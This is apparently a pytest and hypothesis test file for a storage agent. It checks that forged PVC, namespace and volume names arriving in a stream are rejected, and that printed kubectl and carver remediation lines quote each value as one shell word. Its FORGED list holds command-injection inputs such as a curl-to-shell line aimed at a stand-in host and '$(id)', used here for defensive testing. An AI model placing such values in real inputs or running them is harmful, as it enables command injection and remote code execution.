"""The names of a claim that a stream brings, and the lines for a shell that are printed of them."""

import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.core import errors, tag
from agent.extras.kubernetes.rebinding import Place, moved_name
from agent.extras.orphans.candidates import REMEDIES, Candidate, Kind
from agent.extras.streams.form import Header
from agent.extras.transfer import claim_moves, stream_descriptions
from agent.requests.parameters import OBJECT_NAMES
from agent.settings.classes import DeviceClass
from lvm import report
from proto import carver_pb2 as carver

MIB = 1 << 20
PLACE = Place("h@12345678/vol-a", "node-b", "lvm.csi.carver")
FORGED = ("x; curl evil|sh #", "$(id)", "`id`", "a'b", "A", "-x", "a\nb", "ä", "x" * 254)


def received(facts: dict[str, str]) -> dict[str, str]:
    header = Header(
        volume_id="g@12345678/vol-a",
        snapshot_id="g@12345678/snap-a",
        size_bytes=4 * MIB,
        taken_nanoseconds=1,
        chain="0" * 64,
        facts={"access": "block", **facts},
    )
    group = report.Group("g", "1234567890", 4 * MIB, frozenset(), 0)
    return stream_descriptions.tags_of(
        "a", DeviceClass("plain", "g", default=True), header, 4 * MIB, group
    )


@pytest.mark.parametrize("key", sorted(OBJECT_NAMES & set(stream_descriptions.SENT)))
@pytest.mark.parametrize("text", FORGED)
def test_a_stream_s_name_of_an_object_must_be_one(key: str, text: str) -> None:
    with pytest.raises(errors.BadField, match=rf"stream.facts\[{key}\]"):
        received({key: text})


def test_a_stream_s_claim_is_kept() -> None:
    facts = {tag.PVC: "data-db-0", tag.NAMESPACE: "shop", tag.PV: "pvc-1.2"}
    assert facts.items() <= received(facts).items()


ANY = st.text(min_size=1, max_size=20)


@given(pvc=ANY, namespace=ANY, pv=ANY, node=ANY, volume=ANY)
def test_each_value_in_a_printed_line_is_one_word_of_it(
    pvc: str, namespace: str, pv: str, node: str, volume: str
) -> None:
    # Tags that an earlier version took from a stream may have any text.
    moved = carver.MoveState(volume_id=volume, pvc=pvc, namespace=namespace, pv=pv)
    place = Place("h@12345678/vol-a", "node-b", "lvm.csi.carver")
    words = shlex.split(claim_moves.steps(moved, place).partition("1. ")[2])
    asked = ["kubectl", "delete", "pvc", pvc, "--namespace", namespace]
    assert any(words[at : at + len(asked)] == asked for at in range(len(words)))
    assert {moved_name(pv, place.handle), volume} <= set(words)
    filters = [word for word in words if word.startswith("del(")]
    assert len(filters) == 2
    assert all(json.dumps(moved_name(pv, place.handle)) in one for one in filters)


@pytest.mark.parametrize("kind", [one for one in Kind if "{name}" in REMEDIES[one]])
@given(path=ANY)
def test_the_line_that_deletes_an_orphan_has_its_name_as_one_word(kind: Kind, path: str) -> None:
    words = shlex.split(Candidate(kind, path, "1", "").full_remedy)
    # A move is ended before its volume can be deleted.
    expected = (
        ["volume", "move", path, "--undo"]
        if kind is Kind.MOVING
        else ["orphans", "--delete", path, "--yes"]
    )
    assert words == ["carver", *expected]
